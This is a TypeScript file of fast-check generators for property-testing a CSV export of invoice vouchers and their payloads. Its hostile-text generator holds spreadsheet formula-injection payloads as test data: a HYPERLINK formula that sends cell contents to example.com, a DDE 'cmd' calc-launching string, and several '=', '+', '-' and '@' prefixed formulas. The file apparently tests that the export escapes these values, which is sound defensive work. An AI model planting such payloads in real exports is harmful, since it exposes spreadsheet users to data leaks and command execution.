import fc from "fast-check";

/** Texts that a CSV file, or the spreadsheet that opens it, could take for something else. */
export const anyHostileText = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 12 }).map((text) => text.replaceAll("\0", "")),
  fc.string({
    unit: fc.constantFrom("a", '"', ",", ";", "\n", "\r", "\t", " ", "ñ", "'", "=", "+", "-", "@", "1", ".", "0"),
  }),
  fc.constantFrom(
    '=HYPERLINK("http://example.com/?"&A1;"ver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '="1"',
    "00123",
    "1-2",
    "1E5",
    "10/11/2026",
    "86470000000001",
    "1,5",
    "PEÑA MARTÍN",
    "\uFEFFx",
  ),
);

const amount = fc.integer({ min: 0, max: 10 ** 10 }).map((cents) => (cents / 100).toFixed(2));
const day = fc.constantFrom("20260101", "20260228", "20261030", "20261231");
const orNull = <T>(value: fc.Arbitrary<T>) => fc.option(value, { freq: 2 });
const textOrNull = orNull(anyHostileText);

const vatRow = fc.record({
  taxType: fc.constant(5),
  rate: fc.constantFrom("0", "2.5", "5", "10.5", "21", "27"),
  base: amount,
  amount,
});
const tribute = fc.record({
  type: fc.constantFrom(1, 2, 3, 4, 5, 6, 7, 8, 9, 13, 99, 98),
  baseAmount: fc.constant(1),
  aliquot: fc.constant(1),
  subtotal: fc.integer({ min: 0, max: 10 ** 9 }).map((cents) => cents / 100),
  description: textOrNull,
});
const associated = fc.record({
  voucherType: fc.constantFrom(1, 6, 201),
  posNumber: fc.integer({ min: 1, max: 99_998 }),
  voucherNumber: fc.integer({ min: 1, max: 99_999_998 }),
  cuit: fc.constant(null),
});

/** What of a listed voucher has a column of its own. */
export const anyColumns = fc.record({
  voucherType: fc.constantFrom(1, 3, 6, 8, 11, 201),
  posNumber: fc.constantFrom(1, 2, 9),
  voucherDate: day,
  docType: fc.constantFrom(80, 96, 99),
  docNumber: fc.constantFrom("0", "30712345671", "00123", "AAB123456", "=1"),
  netAmount: amount,
  vatAmount: amount,
  exemptAmount: amount,
  notTaxableAmount: amount,
  tributesAmount: amount,
  totalAmount: amount,
  cae: fc.constantFrom("86470000000001", "86470000000002"),
  caeExpirationDate: day,
  currency: fc.constantFrom("PES", "DOL", "060"),
  currencyQuotation: fc.constantFrom("1.000000", "1450.500000"),
  externalReference: textOrNull,
  userEmail: orNull(fc.constantFrom("ana@example.com", "+x@example.com")),
  source: fc.constantFrom("api", "app", "rcel"),
  created: fc.constantFrom("2026-01-01T02:59:59.999Z", "2026-10-30T15:30:00.250Z"),
  vat: fc.array(vatRow, { maxLength: 4 }),
});

/** What of a listed voucher is in its payload. */
export const anyPayload = fc.record({
  concept: fc.constantFrom(1, 2, 3),
  serviceFrom: orNull(day),
  serviceTo: orNull(day),
  serviceExpiration: orNull(day),
  customer: fc.record({
    docType: fc.constant(80),
    docNumber: fc.constant("30712345671"),
    name: anyHostileText,
    taxType: orNull(fc.constantFrom(1, 5)),
    address: textOrNull,
    stateId: orNull(fc.constantFrom(0, 2)),
  }),
  items: fc.array(fc.record({ description: anyHostileText, quantity: fc.constant(1) }), { maxLength: 3 }),
  associatedVouchers: orNull(fc.array(associated, { minLength: 1, maxLength: 3 })),
  associatedPeriod: orNull(fc.record({ from: day, to: day })),
  fce: orNull(
    fc.oneof(
      fc.record({
        cbu: fc.constant("0110599520000001234567"),
        alias: textOrNull,
        transfer: fc.constantFrom("SCA", "ADC"),
      }),
      fc.record({ cancellation: fc.boolean() }),
    ),
  ),
  priceIncludesVat: fc.boolean(),
  tributes: orNull(fc.array(tribute, { minLength: 1, maxLength: 4 })),
  settings: fc.constant({ quantityPrecision: 2, pricePrecision: 2 }),
  legend: textOrNull,
  comments: textOrNull,
  additionalData: orNull(fc.constant({ order: "=1+1" })),
  cancelsInSameForeignCurrency: orNull(fc.constantFrom("S", "N")),
  receiverTaxConditionId: orNull(fc.constantFrom(1, 5)),
});
